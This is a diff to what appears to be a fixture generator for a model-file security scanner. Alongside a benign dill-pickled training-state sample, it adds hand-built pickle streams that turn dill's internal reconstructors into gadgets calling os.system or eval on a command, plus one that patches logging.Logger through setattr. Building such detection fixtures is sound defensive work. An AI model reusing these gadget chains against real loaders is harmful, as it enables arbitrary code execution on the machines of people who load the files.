@@ -12,8 +12,9 @@ Real libraries where they can run here:
   `string.dump` (dumping never runs it); a fixed byte-code-like blob is used
   when it is missing. Torch7 itself cannot be installed on a modern system:
   the `.t7` files are written here following torch7's `File.lua`.
-- dill (pinned 0.4.1) pickles a lambda; pickling never runs it, and nothing
-  here ever unpickles.
+- dill (pinned 0.4.1) pickles a lambda (pickling never runs it, and nothing
+  here ever unpickles) and a training script's data-only state; the attacks
+  on dill's own reconstructors are written opcode by opcode.
 - CNTK is not installable on a current Python: the `.model` files are
   protobuf `Dictionary` messages encoded by hand following `CNTK.proto`.
 - MXNet's formats are written from their documented layout
@@ -298,17 +299,105 @@ def dill_fixtures():
     try:
         import dill  # noqa: F401
     except ImportError:
-        print("dill not installed: the dill fixture is left as committed", file=sys.stderr)
+        print("dill not installed: the dill fixtures are left as committed", file=sys.stderr)
         record(*DILL_FIXTURE)
+        record(DILL_BENIGN)
+        dill_attacks()
         return
     import dill
 
     payload = eval("lambda: __import__('os').system('%s')" % CMD)  # built, never called
     data = dill.dumps(payload, protocol=4, recurse=False)
     out(DILL_FIXTURE[0], data, *DILL_FIXTURE[1:])
+    out(DILL_BENIGN, dill.dumps(dill_training_state(), protocol=4))
+    dill_attacks()
+
+
+def dill_training_state():
+    """What `dill.dump` of a training script's state writes: an instance of
+    a class defined in `__main__` (rebuilt by value with `_create_type`,
+    `_load_type` and `setattr(cls, '__qualname__', ...)`), the class itself,
+    namedtuples from `__main__` (`_create_namedtuple`), a lock, `NoneType`
+    and builtin types. Data only: no function, no code object."""
+    import collections
+    import threading
+
+    TrainingConfig = type("TrainingConfig", (), {
+        "__module__": "__main__", "learning_rate": 3e-4,
+        "hidden_sizes": [256, 128], "optimizer": "adamw"})
+    Checkpoint = collections.namedtuple("Checkpoint", "epoch step loss", module="__main__")
+    cfg = TrainingConfig()
+    cfg.epochs, cfg.seed = 10, 1234
+    return {"config": cfg, "config_class": TrainingConfig,
+            "last": Checkpoint(3, 1500, 0.42),
+            "history": [Checkpoint(1, 500, 0.9), Checkpoint(2, 1000, 0.6)],
+            "missing_value": type(None), "lock": threading.Lock(),
+            "column_types": [int, float, str, dict]}
+
+
+def dill_attacks():
+    """dill's own reconstructors used as gadgets, written opcode by opcode
+    (protocol 2, GLOBAL + REDUCE). dill is not needed to load them: they are
+    what a loader with dill installed would run."""
+    def glob(module, name):
+        return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+    def text(s):
+        b = s.encode()
+        return b"X" + struct.pack("<I", len(b)) + b
+
+    def call(callee, *args):
+        return callee + b"(" + b"".join(args) + b"tR"
+
+    def tup(*items):
+        return b"(" + b"".join(items) + b"t"
+
+    def stream(body):
+        return b"\x80\x02" + body + b"."
+
+    dill = "dill._dill"
+    # `_create_namedtuple(name, fields, module)` first imports `module.name`.
+    out("dill/PKL001_dill_namedtuple_resolves_os_system.pkl",
+        stream(call(call(glob(dill, "_create_namedtuple"), text("system"), tup(text("x")), text("os")),
+                    text(CMD))),
+        ("PKL001", "CRITICAL"))
+    # `_load_type` looks names up in a table that holds CodeType and FunctionType.
+    out("dill/PKL001_dill_load_type_code_type.pkl",
+        stream(call(call(glob(dill, "_load_type"), text("CodeType")), b"K\x00", b"K\x00",
+                    text(CMD))),
+        ("PKL001", "CRITICAL"))
+    # `_create_type(typeobj, *args)` is `typeobj(*args)`: any callable.
+    out("dill/PKL001_dill_create_type_calls_os_system.pkl",
+        stream(call(glob(dill, "_create_type"), glob("os", "system"), text(CMD))),
+        ("PKL001", "CRITICAL"))
+    # `_create_array(f, args, state)` is `f(*args)` followed by `__setstate__`.
+    out("dill/PKL001_dill_create_array_calls_eval.pkl",
+        stream(call(glob(dill, "_create_array"), glob("builtins", "eval"),
+                    tup(text("__import__('os').system('%s')" % CMD)), b"N")),
+        ("PKL001", "CRITICAL"))
+    # `_get_attr(obj, name)` falls back to `getattr(builtins, name)`.
+    out("dill/PKL001_dill_get_attr_falls_back_to_builtins_eval.pkl",
+        stream(call(call(glob(dill, "_get_attr"), b"}", text("eval")),
+                    text("__import__('os').system('%s')" % CMD))),
+        ("PKL001", "CRITICAL"))
+    # `setattr` is inert only on the pickle's own objects: here it patches a library class.
+    out("dill/PKL001_setattr_patches_library_class.pkl",
+        stream(call(glob("builtins", "setattr"), glob("logging", "Logger"), text("disabled"),
+                    b"\x88")),
+        ("PKL001", "CRITICAL"), ("PKL002", "MEDIUM"))
+    # An inert-looking `setattr` that is also handed to another callable.
+    out("dill/PKL001_setattr_passed_on_as_a_value.pkl",
+        stream(b"(" + call(call(glob(dill, "_create_namedtuple"), text("P"), tup(text("x")),
+                                text("__main__")),
+                           b"K\x01") + b"p0\n0"
+               + call(glob("builtins", "setattr"), b"g0\n", text("x"), b"K\x02")
+               + b"0" + call(glob("functools", "partial"), glob("builtins", "setattr"), b"g0\n")
+               + b"l"),
+        ("PKL001", "CRITICAL"))
 
 
 DILL_FIXTURE = ("dill/PKL001_dill_lambda_os_system.pkl", ("PKL001", "CRITICAL"))
+DILL_BENIGN = "dill/benign_dill_training_state.pkl"
 
 
 # ---------------------------------------------------------------- CNTK
